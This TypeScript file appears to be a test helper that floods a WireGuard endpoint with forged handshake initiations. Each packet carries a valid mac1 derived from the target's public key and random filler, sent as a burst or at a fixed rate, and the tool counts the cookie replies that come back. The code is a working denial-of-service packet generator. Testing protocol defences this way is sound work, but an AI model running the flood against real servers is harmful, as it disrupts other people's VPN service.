/**
 * Sends handshake initiations that only look right: their mac1 is valid for the victim's key (anybody who knows the key can do
 * that; paper, section 5.4.4), the rest is noise. Answers each JSON line with the cookie replies that came so far.
 */
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { createInterface } from 'node:readline';

import { blake2s } from '@noble/hashes/blake2.js';

export type Command =
  /** Until the process ends. */
  | { do: 'flood'; from: string; to: { ip: string; port: number }; publicKey: string; perSecond: number }
  /** At once. */
  | { do: 'burst'; from: string; to: { ip: string; port: number }; publicKey: string; count: number }
  | { do: 'report' };
export interface Report {
  sent: number;
  cookieReplies: number;
}

const INITIATION_BYTES = 148;
const MAC1_AT = 116;
const COOKIE_REPLY_BYTES = 64;
const TICK_MS = 5;

const report: Report = { sent: 0, cookieReplies: 0 };

function initiation(mac1Key: Uint8Array): Buffer {
  const message = randomBytes(INITIATION_BYTES);
  message.writeUInt32LE(1, 0);
  message.set(blake2s(message.subarray(0, MAC1_AT), { key: mac1Key, dkLen: 16 }), MAC1_AT);
  message.fill(0, MAC1_AT + 16);
  return message;
}

async function begin(command: Exclude<Command, { do: 'report' }>): Promise<void> {
  const label = Buffer.concat([Buffer.from('mac1----'), Buffer.from(command.publicKey, 'base64')]);
  const mac1Key = blake2s(label);
  const { ip, port } = command.to;
  const socket = createSocket('udp4');
  socket.on('message', (bytes) => {
    if (bytes.length === COOKIE_REPLY_BYTES && bytes[0] === 3) report.cookieReplies += 1;
  });
  await new Promise<void>((resolve) => socket.bind(0, command.from, resolve));
  /** Resolves when the kernel has them. */
  const send = async (count: number): Promise<void> => {
    const one = () => new Promise((resolve) => socket.send(initiation(mac1Key), port, ip, resolve));
    await Promise.all(Array.from({ length: count }, one));
    report.sent += count;
  };
  if (command.do === 'burst') await send(command.count);
  else setInterval(() => void send(Math.ceil((command.perSecond * TICK_MS) / 1000)), TICK_MS);
}

for await (const line of createInterface({ input: process.stdin })) {
  const command = JSON.parse(line) as Command;
  if (command.do !== 'report') await begin(command);
  process.stdout.write(`${JSON.stringify(report)}\n`);
}
